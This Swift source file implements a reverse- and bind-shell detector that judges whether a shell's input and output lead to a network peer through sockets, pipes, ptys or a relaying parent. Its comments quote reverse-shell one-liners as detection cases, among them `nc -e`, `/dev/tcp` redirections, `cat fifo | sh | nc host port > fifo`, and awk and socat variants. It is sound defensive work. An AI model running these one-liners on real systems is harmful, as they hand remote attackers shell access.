// SPDX-License-Identifier: Apache-2.0
// Rule "Reverse shell" (T1059.004): a shell or interpreter whose input AND output lead to a network
// peer. Judged from descriptors 0-2 that capture read and from process relations, never from
// command-line text (except the launcher-tool options of ReverseShellToolMatcher):
//   1. direct: the shell's own stdin and stdout/stderr are a connected inet socket (`nc -e`, bash
//      `/dev/tcp` and `/dev/udp` redirections, perl/python dup2 then exec);
//   2. relayed: the shell's stdio are pipes or fifos whose other ends are held by a pipeline member
//      that talks to the network (`mkfifo` pipelines, `telnet | sh | telnet`, `openssl s_client`);
//   3. relayed by the parent: a pty, pipes or a socketpair only its parent holds, and that parent
//      connected out (python `pty.spawn`, node `child_process.spawn`, `ncat -e`, `socat EXEC:`);
//   4. launched: a network tool started to run a program on its socket; reported on the shell it
//      starts, or on the tool if no shell shows up in time;
//   5. command loop: an inline interpreter that connected out runs commands whose output comes back
//      to it on a private channel (awk `/inet`, popen/backticks/subprocess loops). Reported on the
//      interpreter, judged from the state's record of the command (its parent from the fork), so a
//      command capture read as its next image, in part or not at all gives the same verdict.
// One alert per session: a session is the set of processes and sockets that carry one connection
// (the shell, its forks, its relay, the interpreter that spawned it). The alert names the shell; an
// interpreter that qualifies on its own waits `interpreterGraceNanoseconds` for a shell of its
// session, so which process is named does not depend on the order the events arrived in.
// Requiring both directions keeps `curl … | sh` (input only) and `echo | nc` (output only) quiet.

public struct ReverseShellDetector: Detector {
    public var rules: [Rule] { [.reverseShell, .bindShell] }

    /// How long a tool launch waits for the shell it starts before it is reported on its own.
    public var launchGraceNanoseconds: UInt64 = 2_000_000_000
    /// How long an interpreter with network stdio waits for a shell of its session to be named instead.
    public var interpreterGraceNanoseconds: UInt64 = 1_000_000_000
    /// How long a process counts as networked after an outbound connect event.
    public var connectMemoryNanoseconds: UInt64 = 600_000_000_000
    /// A parent relaying a shell over a private channel (pipes, socketpair, pty) must have connected
    /// out at most this long before the shell started, or while it runs.
    public var relayConnectWindowNanoseconds: UInt64 = 10_000_000_000

    private struct Launch: Sendable {
        var record: EventRecord
        var match: ToolExecMatch
        var remote: (address: String, port: UInt16)?
        /// What argv says the tool joins the program to.
        var ends: ReverseShellToolMatcher.Ends
        var deadline: UInt64
    }

    /// What ties findings to one connection: processes and socket inodes.
    private struct Session: Sendable {
        var processes: Set<ProcessKey> = []
        var inodes: Set<UInt64> = []
        func overlaps(_ other: Session) -> Bool {
            !processes.isDisjoint(with: other.processes) || !inodes.isDisjoint(with: other.inodes)
        }
        mutating func merge(_ other: Session) { processes.formUnion(other.processes); inodes.formUnion(other.inodes) }
    }

    /// An interpreter that qualified; reported at `deadline` unless a shell of its session is first.
    private struct Pending: Sendable {
        var alert: Alert
        var session: Session
        var key: ProcessKey
        var deadline: UInt64
    }

    private var launches: [ProcessID: Launch] = [:]
    private var connected: [ProcessID: RememberedConnect] = [:]
    /// Sessions already reported, oldest first. Bounded by `maxSessions`.
    private var sessions: [Session] = []
    private var pending: [Pending] = []
    private let maxTracked = 4096
    private let maxSessions = 1024

    public init() {}

    /// Exec, snapshot, descriptor, exit and successful connect events are judged; any other event
    /// only matters while an interpreter alert or a tool launch waits for its deadline.
    public func needsInspection(of record: EventRecord) -> Bool {
        if !pending.isEmpty || !launches.isEmpty { return true }
        switch record.event {
        case .exec, .snapshot, .descriptors: return true
        case .exit(let e): return connected[e.pid]?.serial == 0
        case .connect(let c): return (c.result == 0 || c.result == 115) && c.remotePort != 0
        default: return false
        }
    }

    public mutating func inspect(_ record: EventRecord, context: DetectionContext) -> [Alert] {
        var alerts = expire(now: record.timestamp, context: context)
        switch record.event {
        case .exec(let info), .snapshot(let info):
            alerts += judge(info.pid, record: record, context: context)
            noteLaunch(info, record: record)
            // The exec of a process that already connected (connect delivered first): its pipeline
            // peers were judged against the pre-exec image.
            if connected[info.pid] != nil { alerts += judgePeers(of: info.pid, record: record, context: context) }
            // The stored record, not the event's info: a command gone before /proc could be read
            // (busybox `sh -c id` execs `id` at once) comes with no parent in its info; the state
            // knows it from the fork.
            guard let child = context.state.process(info.pid), child.origin != .fork else { break }
            alerts += judgeCommandLoop(child: child, record: record, context: context)
            // A command whose output is a network socket, or could not be read (it finished first):
            // its shell may be a read loop on that peer.
            let output = (child.info.fds ?? []).lazy.filter { $0.fd == 1 || $0.fd == 2 }
            if let ppid = child.ppid, output.isEmpty || output.contains(where: { $0.socket?.isConnectedInet == true }) {
                alerts += judge(ppid, record: record, context: context)
            }
        case .descriptors(let d):
            alerts += judge(d.pid, record: record, context: context)
            alerts += judgePeers(of: d.pid, record: record, context: context)
        // EINPROGRESS (115): a non-blocking connect in flight. Port 0 is no peer: resolvers connect a
        // UDP socket to port 0 to probe routes (getaddrinfo's AI_ADDRCONFIG), which must not
        // replace the real connection that follows.
        case .connect(let c) where (c.result == 0 || c.result == 115) && c.remotePort != 0:
            let serial = context.state.process(c.pid)?.serial ?? 0
            if connected.count >= maxTracked { forgetConnects(context: context) }
            connected[c.pid] = RememberedConnect(serial: serial, address: c.remoteAddress, port: c.remotePort, at: record.timestamp)
            alerts += judge(c.pid, record: record, context: context)
            alerts += judgePeers(of: c.pid, record: record, context: context)
            // The connect (audit) can arrive after the exec (proc connector) of a command it led to.
            for child in context.state.processes.children(of: c.pid)
            where child.origin != .fork && child.firstSeen &+ 1_000_000_000 >= record.timestamp {
                alerts += judgeCommandLoop(child: child, record: record, context: context)
            }
        case .exit(let e):
            if let launch = launches.removeValue(forKey: e.pid) { alerts += launchAlert(launch, context: context) }
            if let i = pending.firstIndex(where: { $0.key.pid == e.pid }) {
                let p = pending.remove(at: i)
                alerts.append(p.alert)
                remember(p.session)
            }
            // Kept past the exit: a command loop's connect or a loop's re-read can be delivered after
            // the process it concerns ended, and is judged as of when it happened. A connect whose
            // process was unknown (serial 0) is pinned to the incarnation that just exited, so the
            // pid's next owner does not inherit it.
            if connected[e.pid]?.serial == 0, let record = context.state.process(e.pid) { connected[e.pid]?.serial = record.serial }
        default:
            break
        }
        return alerts
    }

    // MARK: - Judging one process

    private struct Finding {
        var proc: ProcessRecord
        var input: NetworkPeer
        var output: NetworkPeer
        var socketFDs: [String]
        var session: Session
        var launch: Launch?
        var relay: ProcessKey?
        /// Set when the way the shell works is not told by its descriptors (a command loop).
        var technique: String? = nil
    }

    private func evidence(_ context: DetectionContext, now: UInt64) -> ReverseShellEvidence {
        ReverseShellEvidence(context: context, connects: connected, now: now, connectMemory: connectMemoryNanoseconds,
                             relayConnectWindow: relayConnectWindowNanoseconds)
    }

    /// Judges `pid` and turns a finding into an alert, a pending interpreter alert, or nothing (its
    /// session was already reported).
    private mutating func judge(_ pid: ProcessID, record: EventRecord, context: DetectionContext) -> [Alert] {
        guard let finding = find(pid, record: record, context: context) else { return [] }
        return report(finding, record: record, context: context)
    }

    private mutating func report(_ finding: Finding, record: EventRecord, context: DetectionContext) -> [Alert] {
        let pid = finding.proc.pid
        let kind = ProgramClassifier.kind(of: finding.proc.info)
        if sessions.contains(where: { $0.overlaps(finding.session) }) {
            if let i = sessions.firstIndex(where: { $0.overlaps(finding.session) }) { sessions[i].merge(finding.session) }
            return []
        }
        let matching = pending.indices.filter { pending[$0].session.overlaps(finding.session) }
        if kind == .interpreter {
            if let i = matching.first {
                pending[i].session.merge(finding.session)
                return []
            }
            guard let alert = makeAlert(finding, record: record, context: context) else { return [] }
            pending.append(Pending(alert: alert, session: finding.session, key: ProcessKey(finding.proc),
                                   deadline: record.timestamp &+ interpreterGraceNanoseconds))
            return []
        }
        var session = finding.session
        for i in matching.reversed() { session.merge(pending.remove(at: i).session) }
        guard let alert = makeAlert(finding, record: record, context: context) else { return [] }
        remember(session)
        if let launch = finding.launch { launches[launch.record.event.pid ?? pid] = nil }
        return [alert]
    }

    /// Whether `pid` is a shell-like process whose input and output both lead to the network.
    private func find(_ pid: ProcessID, record: EventRecord, context: DetectionContext) -> Finding? {
        guard let proc = context.state.process(pid), proc.wasAlive(at: record.timestamp), ProgramClassifier.isShellOrInterpreter(proc.info),
              let fds = proc.info.fds else { return nil }
        let ev = evidence(context, now: record.timestamp)
        var input: NetworkPeer?
        var output: NetworkPeer?
        var socketFDs: [String] = []
        for fd in fds where (0...2).contains(fd.fd) {
            guard let peer = ev.peer(of: fd, holder: proc) else { continue }
            if peer.viaSocket { socketFDs.append(String(fd.fd)) }
            if fd.fd == 0 { input = input ?? peer } else { output = output ?? peer }
        }
        // A pty slave whose master the parent holds (python pty.spawn, socat …,pty), or pipes or a
        // socketpair only the parent holds (node spawn, ncat -e, socat EXEC:, awk command loops).
        if input == nil || output == nil, let relay = parentPeer(proc, fds: fds, ev: ev) {
            input = input ?? relay
            output = output ?? relay
        }
        // `cat fifo | sh | nc host port > fifo`: cat opens the fifo by name (not on its fds 0-2), so
        // the input side is invisible; a networked peer that feeds a named pipe closes the loop.
        if (input == nil) != (output == nil), let known = input ?? output, let relay = known.holder,
           relay.pid != pid, let relayProc = context.state.process(relay.pid), ev.feedsNamedPipe(relayProc) {
            input = input ?? known
            output = output ?? known
        }
        // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l >&5 2>&5; done`: the loop (a subshell)
        // reads the connection through cat and each command it runs writes to that same peer.
        // The commands often finish before capture can read them; but the loop is a fork of the
        // shell that opened the connection, so it holds that connection too (inherited at fork).
        if let known = input, output == nil {
            output = ev.childOutput(of: proc, to: known) ?? ev.inheritedConnection(of: proc, to: known)
        }
        let launch = launchFor(proc, context: context)
        if input == nil || output == nil, let launch, hasNetworkEnd(launch, program: proc, context: context) {
            // The tool said it runs this program on its socket; its own socket may not be on 0-2.
            let tool = context.state.process(launch.record.event.pid ?? pid).map(ProcessKey.init)
            let remote = launchRemote(launch, context: context)
            let peer = NetworkPeer(holder: tool, address: remote?.address, port: remote?.port, viaSocket: false, socketInode: nil)
            input = input ?? peer
            output = output ?? peer
        }
        guard let inPeer = input, let outPeer = output else { return nil }
        var session = Session(processes: [ProcessKey(proc)], inodes: ev.socketInodes(of: proc))
        for peer in [inPeer, outPeer] {
            if let h = peer.holder {
                session.processes.insert(h)
                if let holder = context.state.process(h.pid) { session.inodes.formUnion(ev.socketInodes(of: holder)) }
            }
            if let i = peer.socketInode { session.inodes.insert(i) }
        }
        // A fork that has not exec'd (a subshell, or a busybox applet run in the fork) is its
        // parent's session, whatever it does with the descriptors it inherited.
        if proc.origin == .fork, let parent = proc.ppid.flatMap({ context.state.process($0) }) {
            session.processes.insert(ProcessKey(parent))
        }
        let relay = [inPeer, outPeer].first(where: { !$0.viaSocket && $0.holder?.pid != pid })?.holder
        return Finding(proc: proc, input: inPeer, output: outPeer, socketFDs: socketFDs, session: session, launch: launch, relay: relay)
    }

    /// awk/python/… one-liners that read commands from their connection and run each one
    /// (`gawk '/inet/tcp/…' … c | getline`): the command is started with its output on a channel
    /// only the interpreter holds, and often finishes before capture can read it (busybox `sh -c id`
    /// lives well under a millisecond). So: an inline interpreter program that connected out within
    /// `relayConnectWindowNanoseconds` starts a command whose stdout/stderr is a private channel back
    /// to it, or could not be read at all. The interpreter is the reverse shell; a shell of its
    /// session that shows up within the interpreter grace is named instead.
    private mutating func judgeCommandLoop(child: ProcessRecord, record: EventRecord, context: DetectionContext) -> [Alert] {
        guard let ppid = child.ppid, let parent = context.state.process(ppid), parent.wasAlive(at: record.timestamp),
              child.parentSerial == nil || child.parentSerial == parent.serial,
              ProgramClassifier.kind(of: parent.info) == .interpreter, ProgramClassifier.isOneLiner(parent.info) else { return [] }
        let ev = evidence(context, now: record.timestamp)
        guard let c = ev.recentConnect(parent, within: relayConnectWindowNanoseconds) else { return [] }
        // Output descriptors capture did not see (no read, or a read cut short while the command
        // exited: its descriptors close first) are unknown, not "elsewhere".
        let output = (child.info.fds ?? []).filter { $0.fd == 1 || $0.fd == 2 }
        let outputToParent = output.isEmpty || output.contains { ev.isPrivateChannel($0, of: child) }
        guard outputToParent else { return [] }
        let peer = NetworkPeer(holder: ProcessKey(parent), address: c.address, port: c.port, viaSocket: false, socketInode: nil)
        let finding = Finding(proc: parent, input: peer, output: peer, socketFDs: [],
                              session: Session(processes: [ProcessKey(parent), ProcessKey(child)]), launch: nil, relay: nil,
                              technique: "command loop: runs what its connection sends with the output captured")
        return report(finding, record: record, context: context)
    }

    /// The parent's network peer when the parent holds `proc`'s pty master or private channels.
    private func parentPeer(_ proc: ProcessRecord, fds: [DescriptorInfo], ev: ReverseShellEvidence) -> NetworkPeer? {
        let onPty = fds.contains { $0.fd == 0 && $0.kind == .tty && $0.target.hasPrefix("/dev/pts/") }
        if onPty, let parent = proc.ppid.flatMap({ ev.state.process($0) }) {
            // The parent's own stdio is its outbound socket (python dup2 then pty.spawn) …
            if let p = ev.networked(parent), p.socketInode != nil { return p }
            // … or it is a network tool or interpreter that connected out just before (socat …,pty).
            let kind = ProgramClassifier.kind(of: parent.info)
            if kind == .interpreter || kind == .networkTool,
               let c = ev.recentConnect(parent, within: connectMemoryNanoseconds), c.at &+ relayConnectWindowNanoseconds >= proc.firstSeen {
                return NetworkPeer(holder: ProcessKey(parent), address: c.address, port: c.port, viaSocket: false, socketInode: nil)
            }
        }
        return ev.parentRelay(of: proc, fds: fds)
    }

    private func makeAlert(_ f: Finding, record: EventRecord, context: DetectionContext) -> Alert? {
        let pid = f.proc.pid
        let remote = f.input.address != nil ? f.input : f.output
        // Accepted, not connected out: a bind shell (an inetd-style service on a host looks the same,
        // so there it is a Warning that can be allowlisted by executable).
        let inbound = f.input.inbound || f.output.inbound
        let rule: Rule = inbound ? .bindShell : .reverseShell
        let priority: Priority? = inbound && f.proc.container == nil ? .warning : nil
        if let address = remote.address, let port = remote.port,
           context.expects(rule, pid: pid, target: .destination(address: address, port: port)) { return nil }
        if context.expects(rule, pid: pid), remote.address == nil || inbound { return nil }
        var technique = f.socketFDs.count == 3 || (f.socketFDs.contains("0") && f.socketFDs.count >= 2)
            ? "stdio is a network socket" : "stdio relayed through pipes or a pty to a networked process"
        var extra: AlertFields = [
            "fd.rip": FieldValue(remote.address.map(Self.unmapped)), "fd.rport": FieldValue(remote.port),
            "rw.socket_fds": .list(f.socketFDs),
        ]
        if let relay = f.relay, let relayProc = context.state.process(relay.pid) {
            extra["rw.relay"] = .string("\(relayProc.info.name ?? "?")(\(relay.pid))")
        }
        if let launch = f.launch {
            extra["rw.launcher"] = .string("\(launch.match.tool) \(launch.match.option) \(launch.match.program)")
            technique = "\(launch.match.tool) \(launch.match.option)"
        }
        extra["rw.technique"] = .string(f.technique ?? technique)
        return context.alert(rule, output: inbound ? Self.bindTemplate : Self.shellTemplate, record: record, pid: pid,
                             priority: priority, extra: extra)
    }

    /// Re-judges the shells wired to `pid`: pipeline members sharing a pipe with it (one more hop for
    /// `cat fifo | sh | nc`), and its children (a relay that connected after spawning its shell).
    private mutating func judgePeers(of pid: ProcessID, record: EventRecord, context: DetectionContext) -> [Alert] {
        guard let proc = context.state.process(pid) else { return [] }
        var alerts: [Alert] = []
        var seen = SmallSet<ProcessID>()
        seen.insert(pid)
        for fd in proc.info.fds ?? [] where (0...2).contains(fd.fd) && fd.kind == .pipe {
            guard let inode = fd.inode else { continue }
            for holder in context.state.processes(holdingInode: inode, aliveAt: record.timestamp) where seen.insert(holder.pid) {
                alerts += judge(holder.pid, record: record, context: context)
                for fd2 in holder.info.fds ?? [] where (0...2).contains(fd2.fd) && fd2.kind == .pipe {
                    guard let inode2 = fd2.inode, inode2 != inode else { continue }
                    for h2 in context.state.processes(holdingInode: inode2, aliveAt: record.timestamp) where seen.insert(h2.pid) {
                        alerts += judge(h2.pid, record: record, context: context)
                    }
                }
            }
        }
        for child in context.state.processes.children(of: pid) where child.wasAlive(at: record.timestamp) && seen.insert(child.pid) {
            alerts += judge(child.pid, record: record, context: context)
        }
        return alerts
    }

    /// Makes room in the connect memory: first the connects of processes that are gone (or were
    /// replaced), then, if live ones alone fill it, all of it.
    private mutating func forgetConnects(context: DetectionContext) {
        connected = connected.filter { pid, c in
            guard let p = context.state.process(pid) else { return false }
            return p.isAlive && (c.serial == 0 || c.serial == p.serial)
        }
        if connected.count >= maxTracked { connected.removeAll(keepingCapacity: true) }
    }

    // MARK: - Sessions and deadlines

    /// Interpreter alerts and tool launches whose grace is over by `now` (a heartbeat, or the end of
    /// input), when no event came to expire them.
    public mutating func due(now: UInt64, context: DetectionContext) -> [Alert] {
        expire(now: now, context: context)
    }

    private mutating func remember(_ session: Session) {
        sessions.append(session)
        if sessions.count > maxSessions { sessions.removeFirst(sessions.count - maxSessions) }
    }

    private mutating func expire(now: UInt64, context: DetectionContext) -> [Alert] {
        var alerts: [Alert] = []
        if !pending.isEmpty {
            let due = pending.filter { $0.deadline <= now }
            pending.removeAll { $0.deadline <= now }
            for p in due {
                alerts.append(p.alert)
                remember(p.session)
            }
        }
        if launches.values.contains(where: { $0.deadline <= now }) {
            for (pid, launch) in launches.sorted(by: { $0.key < $1.key }) where launch.deadline <= now {
                launches[pid] = nil
                alerts += launchAlert(launch, context: context)
            }
        }
        return alerts
    }

    // MARK: - Tool launches

    private mutating func noteLaunch(_ info: ProcessInfo, record: EventRecord) {
        guard let name = ProgramClassifier.name(of: info), ProgramClassifier.kind(ofName: name) == .networkTool,
              let argv = info.argv else { return }
        let viaBusybox = argv.first.map(ProgramClassifier.baseName) == "busybox"
        let toolName = viaBusybox ? "busybox" : name
        guard let match = ReverseShellToolMatcher.match(name: toolName, argv: argv) else { return }
        if launches.count >= maxTracked { launches.removeAll(keepingCapacity: true) }
        launches[info.pid] = Launch(record: record, match: match, remote: ReverseShellToolMatcher.remote(name: toolName, argv: argv),
                                    ends: ReverseShellToolMatcher.ends(name: toolName, argv: argv),
                                    deadline: record.timestamp &+ launchGraceNanoseconds)
    }

    /// Whether a launch joins its program to the network: argv names a network end, or else the
    /// descriptors say so (the tool connected out, or it or the program it runs holds an inet
    /// socket on 0-2). `socat STDIO EXEC:sh`, `socat UNIX-LISTEN:… EXEC:sh` and `ncat -U … --sh-exec`
    /// between local ends do not.
    private func hasNetworkEnd(_ launch: Launch, program: ProcessRecord?, context: DetectionContext) -> Bool {
        if launch.ends == .network { return true }
        guard let pid = launch.record.event.pid else { return false }
        let tool = context.state.process(pid)
        if let c = connected[pid], c.serial == 0 || c.serial == tool?.serial { return true }
        return [tool, program].contains { p in
            (p?.info.fds ?? []).contains { (0...2).contains($0.fd) && $0.socket?.isConnectedInet == true }
        }
    }

    /// Where the launched tool's peer is: its outbound connect when seen, else what argv said, else
    /// the inet socket on its own descriptors 0-2 (a listener that accepted), so the alert names a
    /// peer whenever any source knows one.
    private func launchRemote(_ launch: Launch, context: DetectionContext) -> (address: String, port: UInt16)? {
        guard let pid = launch.record.event.pid else { return launch.remote }
        if let c = connected[pid] { return (c.address, c.port) }
        if let remote = launch.remote { return remote }
        let socket = context.state.process(pid)?.info.fds?.first { (0...2).contains($0.fd) && $0.socket?.isConnectedInet == true }?.socket
        guard let s = socket, let address = s.remoteAddress, let port = s.remotePort else { return nil }
        return (Self.unmapped(address), port)
    }

    /// The pending launch of `proc` itself (nc -e execs the shell in place) or of an ancestor.
    private func launchFor(_ proc: ProcessRecord, context: DetectionContext) -> Launch? {
        if let l = launches[proc.pid] { return l }
        for ancestor in context.state.ancestors(of: proc.pid, limit: 4) {
            if let l = launches[ancestor.pid] { return l }
        }
        return nil
    }

    /// The alert for a launch no shell was seen for, unless its session was already reported.
    private mutating func launchAlert(_ launch: Launch, context: DetectionContext) -> [Alert] {
        guard hasNetworkEnd(launch, program: nil, context: context) else { return [] }
        let pid = launch.record.event.pid
        if let pid, let tool = context.state.process(pid) {
            let key = ProcessKey(tool)
            if sessions.contains(where: { $0.processes.contains(key) }) { return [] }
            remember(Session(processes: [key]))
        }
        let remote = launchRemote(launch, context: context)
        let extra: AlertFields = [
            "fd.rip": FieldValue(remote.map { Self.unmapped($0.address) }), "fd.rport": FieldValue(remote?.port),
            "rw.socket_fds": .list([]),
            "rw.launcher": .string("\(launch.match.tool) \(launch.match.option) \(launch.match.program)"),
            "rw.technique": .string("\(launch.match.tool) \(launch.match.option)"),
        ]
        return [context.alert(.reverseShell, output: Self.launchTemplate, record: launch.record, pid: pid, extra: extra)]
    }

    static let shellTemplate = "%proc.name (pid=%proc.pid cmdline=%proc.cmdline) has its input and output connected to %fd.rip:%fd.rport (technique=%rw.technique parent=%proc.pname container=%container.id pod=%k8s.ns.name/%k8s.pod.name)"
    /// An IPv4 peer seen through a dual-stack socket (`::ffff:198.51.100.1`) as the IPv4 address
    /// it is, so the alert names the peer the way the connect and the profile do.
    static func unmapped(_ address: String) -> String {
        let prefix = "::ffff:"
        guard address.lowercased().hasPrefix(prefix), address.dropFirst(prefix.count).contains(".") else { return address }
        return String(address.dropFirst(prefix.count))
    }

    static let bindTemplate = "%proc.name (pid=%proc.pid cmdline=%proc.cmdline) has its input and output on a connection it accepted from %fd.rip:%fd.rport (technique=%rw.technique parent=%proc.pname container=%container.id pod=%k8s.ns.name/%k8s.pod.name)"
    static let launchTemplate = "Network tool launched to run a program on its socket: %proc.cmdline (pid=%proc.pid) runs a program on its socket to %fd.rip:%fd.rport (technique=%rw.technique container=%container.id pod=%k8s.ns.name/%k8s.pod.name)"
}
